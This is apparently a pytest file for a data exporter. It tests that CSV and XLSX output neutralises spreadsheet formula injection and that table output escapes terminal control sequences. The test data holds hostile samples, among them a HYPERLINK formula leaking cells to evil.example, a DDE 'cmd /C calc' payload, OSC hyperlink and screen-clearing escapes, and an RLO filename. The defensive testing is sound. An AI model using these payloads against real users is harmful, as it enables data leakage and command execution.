"""Hostile text in spreadsheets and terminals (issue 18): every CSV the project writes, read with
any common separator, has no cell a spreadsheet would run; XLSX keeps text exactly as typed
strings; table output shows control characters instead of sending them to the terminal."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
import os
import stat
import string

import pytest
from openpyxl import load_workbook

from exporter.writers import XLSX_MAX_CELL, publish, safe_domain, write_rows
from influencers.core.spreadsheet import neutralise
from influencers.tables import render

# What a platform may serve as a nickname; each aims a formula at some cell start a reader may see.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    " =1+1",
    "   @x",
    "\u3000=1",  # ideographic space
    "\xa0+1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x1f=1",
    "\x00=1",
    '"=1"',
    'x;=HYPERLINK("http://evil.example")',
    "x; -1",
    'x;"=1',
    'x";=1',
    "x\t=1",
    "x\t \t@1",
    "x\n=1",
    "x\r\n+1",
    "x\r=1",
    "a;b;c;=1",
]
# A "," inside a text is quoted by the writer, so no common reader starts a cell there.
HARMLESS = [
    "a,=1",
    "a, -1",
    "美妆达人😀",
    "1-2",
    "a=b",
    "'=already",
    "",
]
HOSTILE = DANGEROUS + HARMLESS
SEPARATORS = [",", ";", "\t"]
_LEADING = string.whitespace + "".join(map(chr, range(0x20))) + "\x7f\u3000\xa0\"'"


def formula_cells(text: str) -> list[tuple[str, str]]:
    """Cells of the CSV ``text`` that start (after white space, controls, quotes) with = + - @,
    read with each common separator, as (separator, cell)."""
    found = []
    for separator in SEPARATORS:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                stripped = cell.lstrip(_LEADING.replace("'", ""))
                if stripped[:1] in ("=", "+", "-", "@"):
                    found.append((separator, cell))
    return found


@pytest.mark.parametrize("text", DANGEROUS)
def test_each_dangerous_text_would_inject_without_neutralisation(text):
    """The check is real: written as it is, the text puts a formula in a cell for some reader."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow([1, text, "after"])
    assert formula_cells(buffer.getvalue())


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_leaves_no_formula_and_only_adds_quotes(text):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([1, neutralise(text), "after"])
    assert formula_cells(buffer.getvalue()) == []
    assert neutralise(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["美妆达人😀", "1-2", "a=b", "'=already", "", "x,-1", '{"fans":-3,"bio":"a;b"}'])
def test_harmless_text_is_kept(text):
    assert neutralise(text) == text


def test_json_in_raw_data_stays_json():
    raw = json.dumps({"bio": "x;=HYPERLINK(1)", "tags": [-1, "+2"], "a": "b"}, ensure_ascii=False,
                     separators=(",", ":"))
    assert json.loads(neutralise(raw))["tags"] == [-1, "+2"]
    buffer = io.StringIO()
    csv.writer(buffer).writerow([1, neutralise(raw)])
    assert formula_cells(buffer.getvalue()) == []


def hostile_rows() -> list[dict]:
    return [{
        "id": i, "uid": text or "u", "nickname": text, "domain": "美妆", "source_page": text,
        "ingested_at": dt.datetime(2024, 5, 1, 12, 0, i % 60),
        "raw_data": json.dumps({"bio": text, "fans": -i}, ensure_ascii=False, separators=(",", ":")),
    } for i, text in enumerate(HOSTILE, start=1)]


def test_export_csv_has_no_formula_with_any_separator():
    buffer = io.BytesIO()
    write_rows("csv", buffer, hostile_rows())
    text = buffer.getvalue().decode("utf-8-sig")
    assert formula_cells(text) == []
    body = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [json.loads(r["raw_data"])["bio"].replace("'", "") for r in body] == [t.replace("'", "") for t in HOSTILE]


def test_cli_csv_output_has_no_formula_with_any_separator():
    rows = [{"id": i, "username": text, "reason": text, "count": 3} for i, text in enumerate(HOSTILE)]
    columns = [("id", "id"), ("username", "username"), ("reason", "reason"), ("count", "count")]
    assert formula_cells(render(rows, columns, "csv")) == []


def xlsx_cells(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    return [list(row) for row in sheet.iter_rows(min_row=2)]


def test_xlsx_keeps_the_text_as_typed_strings():
    texts = [t for t in HOSTILE if not any(ord(c) < 0x20 and c not in "\t\n\r" for c in t)]
    texts += ["#N/A", "#DIV/0!", "=", "=1"]
    rows = [{"id": i, "uid": f"u{i}", "nickname": text, "source_page": text} for i, text in enumerate(texts, 1)]
    buffer = io.BytesIO()
    write_rows("xlsx", buffer, rows)
    body = xlsx_cells(buffer.getvalue())
    for text, cells in zip(texts, body, strict=True):
        by_column = {cell.column: cell for cell in cells if cell.value is not None}
        for column in (3, 5):  # nickname, source_page
            if not text:
                assert column not in by_column
                continue
            cell = by_column[column]
            assert cell.value == text and cell.data_type == "s", (text, cell.value, cell.data_type)


def test_xlsx_cuts_an_over_long_value_with_one_line_naming_the_rows(caplog):
    long_bio = json.dumps({"bio": "长" * (XLSX_MAX_CELL + 10)}, ensure_ascii=False)
    rows = [{"id": 7, "uid": "a", "nickname": "n" * (XLSX_MAX_CELL + 1), "raw_data": long_bio},
            {"id": 8, "uid": "b", "nickname": "short"},
            {"id": 9, "uid": "c", "raw_data": long_bio}]
    buffer = io.BytesIO()
    with caplog.at_level(logging.INFO, logger="exporter.writers"):
        write_rows("xlsx", buffer, rows, name="task1_part0001_acct1_id7-9.xlsx")
    [line] = [r for r in caplog.records if r.name == "exporter.writers"]
    message = line.getMessage()
    assert line.levelno == logging.WARNING and "task1_part0001_acct1_id7-9.xlsx" in message
    assert "3 value(s)" in message and "7 (nickname)" in message and "9 (raw_data)" in message and "8 (" not in message
    body = xlsx_cells(buffer.getvalue())
    assert len(body[0][2].value) == XLSX_MAX_CELL


def test_a_short_xlsx_logs_nothing(caplog):
    with caplog.at_level(logging.INFO, logger="exporter.writers"):
        write_rows("xlsx", io.BytesIO(), [{"id": 1, "nickname": "x" * XLSX_MAX_CELL}])
    assert [r for r in caplog.records if r.name == "exporter.writers"] == []


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_export_files_and_directories_are_private(tmp_path, fmt):
    root = tmp_path / "exports"
    final = root / "美妆" / "2024-05-01" / f"task1_part0001_acct1_id1-1.{fmt}"
    old_umask = os.umask(0o022)
    try:
        publish(final, fmt, [{"id": 1, "uid": "u", "nickname": "电话 138"}], export_dir=root)
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(final.stat().st_mode) == 0o600
    for directory in (root, final.parent.parent, final.parent):
        assert stat.S_IMODE(directory.stat().st_mode) == 0o700, directory


@pytest.mark.parametrize("domain", ["-rf", "--help", "-", "-美妆"])
def test_a_domain_that_reads_as_an_option_is_made_safe(domain):
    name = safe_domain(domain)
    assert not name.startswith("-") and name
    assert safe_domain(domain) != safe_domain("_" + domain[1:])  # still one directory per domain


OSC_LINK = "\x1b]8;;http://evil.example\x1b\\click me\x1b]8;;\x1b\\"
TERMINAL_HOSTILE = [OSC_LINK, "\x1b[2J\x1b[Hcleared", "\x9b31mred", "bell\x07", "back\rspace\x08",
                    "rlo\u202eexe.txt", "\x1b]0;new title\x07"]


def test_table_output_shows_control_characters_instead_of_sending_them():
    rows = [{"id": i, "nickname": text} for i, text in enumerate(TERMINAL_HOSTILE, 1)]
    table = render(rows + [{"id": 99, "nickname": "美妆达人😀\n第二行"}], [("id", "id"), ("nickname", "nickname")])
    assert not any(c in table for c in "\x1b\x9b\x07\r\x08\u202e")
    assert "\\x1b]8;;http://evil.example\\x1b\\click me" in table
    assert "\\x9b31mred" in table and "\\u202e" in table
    assert "美妆达人😀" in table and "第二行" in table  # text and line breaks stay readable


def test_json_output_escapes_what_a_terminal_acts_on_and_parses_back_the_same():
    rows = [{"nickname": text} for text in [*TERMINAL_HOSTILE, "美妆达人😀"]]
    rendered = render(rows, [("nickname", "nickname")], "json")
    assert not any(c in rendered for c in "\x1b\x9b\x07\x08\u202e")  # C1 and bidi too, not only C0
    assert [row["nickname"] for row in json.loads(rendered)] == [*TERMINAL_HOSTILE, "美妆达人😀"]
    assert "美妆达人😀" in rendered  # Chinese and emoji stay readable
